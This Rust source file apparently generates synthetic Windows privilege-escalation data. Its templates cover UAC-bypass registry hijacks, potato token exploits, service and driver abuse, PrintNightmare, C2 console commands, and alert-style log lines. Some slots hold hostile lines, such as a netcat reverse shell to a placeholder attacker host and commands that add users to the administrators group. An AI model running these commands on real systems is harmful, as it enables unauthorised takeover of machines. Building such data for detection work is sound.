//! Privilege escalation: UAC, tokens, services, drivers and exploits.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("escalation-windows", "escalation-windows", Cmd, &[
        concat!(
            r"reg add HKCU\Software\Classes\«ms-settings¦mscfile¦exefile¦Folder¦AppX82a6gwre4fdg3bt635tn5ctqjf",
            r#"8msdd2»\shell\open\command «/ve ¦/v DelegateExecute »/t REG_SZ /d "{c}" /f« && "#,
            "«fodhelper.exe¦computerdefaults.exe¦eventvwr.exe¦sdclt.exe»»",
        ),
        concat!(
            r#"reg add HKCU\Environment /v windir /d "{c} && REM " /f & schtasks /run /tn "#,
            r"\Microsoft\Windows\DiskCleanup\SilentCleanup /i",
        ),
        concat!(
            "«fodhelper¦eventvwr¦sdclt /kickoffelev¦computerdefaults¦wsreset¦slui¦changepk¦silentcleanup¦Comp",
            "MgmtLauncher».exe",
        ),
        "Akagi64.exe {1..70} {c}",
        r"cmstp.exe /au {dir}\{stem}.inf",
        concat!(
            "«JuicyPotato¦JuicyPotatoNG¦RottenPotatoNG¦SweetPotato¦GodPotato¦GodPotato-NET4¦PrintSpoofer64¦Pr",
            "intSpoofer¦RoguePotato¦EfsPotato¦SharpEfsPotato¦CoercedPotato¦DCOMPotato¦LocalPotato¦DeadPotato»",
            r#".exe «-l {port} -p cmd.exe -a "/c {c}" -t *¦-cmd "cmd /c {c}"¦-i -c cmd¦-c "{c}"¦-r {attacker} "#,
            r#"-e "{c}" -l {port}¦-p {c}»« -c {{GUID}}»"#,
        ),
        concat!(
            r#"sc «qc {svcname}¦config {svcname} binpath= "{c}"¦config {svcname} obj= ".\LocalSystem" "#,
            r#"password= ""¦sdshow {svcname}¦stop {svcname} & sc start {svcname}»"#,
        ),
        concat!(
            r#"accesschk«64».exe -«uwcqv "Authenticated Users" *¦uwdqs Users c:\¦uwqs Users c:\*.*¦ucqv "#,
            r"{svcname}¦kvuqsw hklm\System\CurrentControlSet\Services» /accepteula",
        ),
        r#"icacls "C:\Program Files\{vendor}\{product}" & icacls C:\{stem}\{stem}.exe /grant Everyone:F"#,
        concat!(
            "wmic service get name,displayname,pathname,startmode | findstr /i auto | findstr /i /v ",
            r#""c:\windows\\" | findstr /i /v """"#,
        ),
        r"reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated",
        r"reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated",
        r"msiexec /quiet /qn /i {dir}\{stem}.msi",
        concat!(
            r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v ",
            "«EnableLUA¦ConsentPromptBehaviorAdmin¦LocalAccountTokenFilterPolicy¦FilterAdministratorToken»",
        ),
        concat!(
            r"reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v «EnableLUA /t ",
            "REG_DWORD /d 0¦LocalAccountTokenFilterPolicy /t REG_DWORD /d 1¦ConsentPromptBehaviorAdmin /t ",
            "REG_DWORD /d 0» /f",
        ),
        "PsExec«64».exe -«i -s cmd.exe¦s -d {c}¦accepteula -s -i powershell.exe»",
        "psexec -i -s regedit.exe",
        r#"whoami /priv | findstr "SeImpersonate SeBackup SeRestore SeDebug SeTakeOwnership SeLoadDriver""#,
        r#"incognito.exe execute -c "NT AUTHORITY\SYSTEM" cmd.exe"#,
        "tokenvator.exe «GetSystem cmd.exe¦BypassUAC cmd.exe¦Steal_Token {pid} cmd.exe»",
        concat!(
            r"«runas /netonly /user:{domain}\{user} cmd¦runas /savecred /user:administrator {c}¦RunasCs.exe ",
            r#"{user} {password} "{c}" -r {attacker}:{port}»"#,
        ),
        "CVE-20{15..24}-{1000..43000}.exe {c}",
        concat!(
            r"«sc create {stem} binpath= {dir}\RTCore64.sys type= kernel start= demand¦fltmc load ",
            "{stem}¦kdmapper.exe {stem}.sys¦drvload {stem}.inf¦sc start RTCore64¦NtLoadDriver.exe ",
            "{stem}.sys¦loldrv.exe¦capcom.exe {stem}.sys»",
        ),
        r"rundll32 {dir}\SharpPrintNightmare.dll,{stem} & SharpPrintNightmare.exe C:\{stem}.dll \\{host}",
        r#"diskcleanup & mkdir "\\?\C:\Windows \System32" & copy {stem}.dll "\\?\C:\Windows \System32""#,
        r#"PowerUp.exe & SharpUp.exe audit & Watson.exe & SeRestoreAbuse.exe "{c}""#,
        r"SeBackupPrivilegeCmdLets & robocopy /b C:\Users\{user}\Desktop {dir} {stem}.txt",
        r#"powershell -ep bypass -c ". .\PowerUp.ps1; Invoke-AllChecks""#,
        concat!(
            r#"powershell -ep bypass -c "Import-Module .\CVE-2021-1675.ps1; Invoke-Nightmare -NewUser {user} "#,
            r#"-NewPassword {password}""#,
        ),
        "wsl -u root id & wsl chmod 4755 /bin/bash",
        concat!(
            "nltest /query & klist & PrintNightmare.py {domain}/{user}:{password}@{ip} ",
            r"'\\{attacker}\{share}\{stem}.dll'",
        ),
    ])
    .slots(&[
        ("c", concat!(
                r"«cmd.exe¦{dir}\{stem}.exe¦net localgroup administrators {user} /add¦powershell -enc ",
                r"{b64_60}¦C:\Windows\System32\cmd.exe /c {dir}\{stem}.bat¦whoami¦nc.exe {attacker} {port} -e cmd»",
            )),
    ])
    .weight(14),
    Family::other("escalation-other", "escalation-other", Ps, &[
        concat!(
            "Invoke-«AllChecks¦PrivescAudit -HTMLReport¦ServiceAbuse -Name {svcname} -UserName ",
            r"'{domain}\{user}'¦BypassUAC -Command '{stem}.exe'¦EventVwrBypass -Command ",
            "'{stem}'¦EnvBypass¦FodHelperBypass¦WScriptUACBypass¦SDCLTBypass¦Tater -Trigger 1 -Command ",
            "'{stem}'¦MS16032¦Nightmare -NewUser {user} -NewPassword {password}¦PrintDemon¦PrivescCheck ",
            "-Extended¦ServiceUserAdd -ServiceName {svcname}»",
        ),
        concat!(
            "Get-«ModifiableService¦ModifiableServiceFile¦UnquotedService¦ServiceUnquoted ",
            "-Verbose¦RegistryAlwaysInstallElevated¦RegistryAutoLogon¦ModifiableRegistryAutoRun¦ModifiableSch",
            "eduledTaskFile¦ProcessTokenPrivilege¦ProcessTokenGroup¦System¦CachedGPPPassword»",
        ),
        concat!(
            "Write-«ServiceBinary -Name {svcname} -UserName {user} -Password {password}¦HijackDll -DllPath ",
            r"{psdir}\{stem}.dll -Command '{stem}.exe'¦UserAddMSI»",
        ),
        concat!(
            r"New-Item 'HKCU:\Software\Classes\ms-settings\shell\open\command' -Force; Set-ItemProperty ",
            r"'HKCU:\Software\Classes\ms-settings\shell\open\command' '(default)' '{stem}.exe'; ",
            r"New-ItemProperty 'HKCU:\Software\Classes\ms-settings\shell\open\command' DelegateExecute ''; ",
            "Start-Process fodhelper.exe",
        ),
        r"Start-Process powershell -Verb RunAs -ArgumentList '-ep bypass -f {psdir}\{stem}.ps1'",
        "Enable-Privilege SeDebugPrivilege; Set-SeBackupPrivilege; Get-SeBackupPrivilege",
        concat!(
            r"Import-Module .\SeBackupPrivilegeUtils.dll; Set-SeBackupPrivilege; Copy-FileSeBackupPrivilege ",
            "{docfile} {psout}",
        ),
        concat!(
            "$p = Get-Process winlogon; $h = [Win32]::OpenProcessToken($p.Handle, 0x000F, [ref]$t); ",
            "[Win32]::DuplicateTokenEx($t, 0x2000000, 0, 2, 1, [ref]$d); [Win32]::ImpersonateLoggedOnUser($d)",
        ),
        concat!(
            r#"Get-WmiObject Win32_Service | ? { $_.StartMode -eq 'Auto' -and $_.PathName -notmatch '"' } | "#,
            "select Name, PathName",
        ),
        concat!(
            r"(Get-Acl 'HKLM:\SYSTEM\CurrentControlSet\Services\{svcname}').Access | ? { $_.RegistryRights ",
            "-match 'FullControl' }",
        ),
        r"Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\{svcname} ImagePath '{dir}\{stem}.exe'",
        concat!(
            "Set-ADAccountControl {user} -DoesNotRequirePreAuth $true; Add-ADGroupMember 'Backup Operators' ",
            "{user}",
        ),
        "whoami /priv; whoami /groups | Select-String 'S-1-16'",
        concat!(
            "Set-DomainObjectOwner -Identity {user} -OwnerIdentity {user}; Add-DomainObjectAcl ",
            "-TargetIdentity {user} -PrincipalIdentity {user} -Rights ResetPassword",
        ),
        "New-GPOImmediateTask -TaskName {stem} -GPODisplayName {stem} -CommandArguments '-c {stem}' -Force",
        concat!(
            "SharpGPOAbuse.exe --Add«LocalAdmin --UserAccount {user} --GPOName {stem}¦ComputerTask ",
            r#"--TaskName {stem} --Author {user} --Command cmd.exe --Arguments "/c {stem}" --GPOName {stem}»"#,
        ),
    ])
    .weight(8),
    Family::other("escalation-console", "escalation-console", Console, &[
        concat!(
            "beacon> «elevate uac-token-duplication {stem}¦elevate svc-exe {stem}¦elevate ms16-032 ",
            "{stem}¦getsystem¦getprivs¦runasadmin uac-cmstplua {stem}¦elevate juicypotato {stem}¦elevate ",
            "printspoofer {stem}¦runu {pid} {stem}¦steal_token {pid}¦execute-assembly {shdir}/SharpUp.exe ",
            "audit¦execute-assembly {shdir}/SweetPotato.exe -p {stem}.exe¦svc-exe {stem}¦elevate ",
            "hivenightmare_check¦powerpick Invoke-AllChecks»",
        ),
        concat!(
            "meterpreter > «getsystem¦getsystem -t {1..6}¦getprivs¦run ",
            "post/multi/recon/local_exploit_suggester¦background⏎msf6 > use ",
            "exploit/windows/local/bypassuac_fodhelper⏎msf6 > set SESSION {1..9}⏎msf6 > run¦load ",
            r#"incognito⏎meterpreter > impersonate_token "NT AUTHORITY\\SYSTEM"¦run "#,
            "post/windows/escalate/getsystem¦run post/windows/gather/enum_unattend»",
        ),
        concat!(
            "use exploit/windows/local/«bypassuac_eventvwr¦bypassuac_sdclt¦ms10_015_kitrap0d¦ms16_032_seconda",
            "ry_logon_handle_privesc¦always_install_elevated¦unquoted_service_path¦service_permissions¦cve_20",
            "21_1732¦cve_2022_21882_win32k¦ms18_8120_win32k_privesc¦tokenmagic¦cve_2021_40449»⏎set SESSION ",
            "{1..9}⏎set LHOST {attacker}⏎run",
        ),
        concat!(
            "sliver ({ALNUM8}) > «getsystem¦getprivs¦impersonate {user}¦execute-assembly SharpUp.exe ",
            "audit¦bof-uac-schtasks¦runas -u {user} -p cmd.exe¦seatbelt -- TokenPrivileges¦potato -p ",
            "{stem}.exe»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule powershell/privesc/«bypassuac_eventvwr¦bypassuac_fodhelper¦ask¦ge",
            "tsystem¦powerup/allchecks¦powerup/service_exe_restore¦sweetpotato¦ms16-032¦printnightmare¦sherlo",
            "ck¦watson¦tater¦winPEAS»⏎execute",
        ),
        concat!(
            "demon > «token privs-get¦token steal {pid}¦dotnet inline-execute SharpUp.exe ",
            "audit¦inline-execute uac.o¦proc create normal {stem}.exe»",
        ),
        concat!(
            "mythic> «getprivs¦getsystem¦steal_token {pid}¦execute_assembly SharpUp.exe -Arguments ",
            "audit¦printspoofer -Command {stem}»",
        ),
        concat!(
            "covenant> «BypassUACCommand cmd.exe¦BypassUACGrunt¦GetSystem¦PrivExchange¦SharpUp ",
            "audit¦ImpersonateProcess {pid}»",
        ),
        concat!(
            "mimikatz # privilege::debug⏎mimikatz # token::elevate⏎mimikatz # «process::runp ",
            "/ppid:{pid}¦service::+¦token::run /process:cmd.exe¦misc::printnightmare ",
            "/library:{stem}.dll¦misc::addsid {user} S-1-5-18»",
        ),
        concat!(
            "koadic: sta> use implant/elevate/«bypassuac_compdefaults¦bypassuac_eventvwr¦bypassuac_fodhelper¦",
            "bypassuac_slui¦system_createservice»⏎run",
        ),
    ])
    .weight(7),
    Family::other("escalation-told", "escalation-told", Told, &[
        concat!(
            "{who} «escalated to SYSTEM¦bypassed UAC¦elevated privileges¦obtained SYSTEM¦became a local ",
            "administrator» «with a potato exploit¦through fodhelper.exe¦with PrintNightmare¦by stealing the ",
            "token of PID {pid}¦with getsystem¦through an unquoted service path¦by abusing ",
            "SeImpersonatePrivilege¦with a vulnerable driver¦through AlwaysInstallElevated¦by replacing a ",
            "service binary»{where}.",
        ),
        concat!(
            "Sensitive privilege use. Privileges: Se«Tcb¦Debug¦Impersonate¦LoadDriver¦Backup¦TakeOwnership»Pr",
            r"ivilege Account Name: {user} Process Name: {dir}\{stem}.exe",
        ),
        concat!(
            "Special privileges assigned to new logon. Account: {user} Privileges: SeSecurityPrivilege ",
            "SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege SeDebugPrivilege",
        ),
        concat!(
            "«Alert¦Detection»: «UAC bypass¦token manipulation¦named pipe impersonation¦exploit of a ",
            "vulnerable driver¦suspicious service start»{where}",
        ),
        r"Driver loaded: {dir}\{stem}.sys Signed: «true¦false» Signature: {vendor}",
        r"Pipe created: \«{alnum6}¦spoolss¦{guid}\pipe\spoolss» by {stem}.exe{where}",
        "SePrivilege escalation by {account}: process {stem}.exe now runs with System integrity{where}.",
    ])
    .weight(6),
];
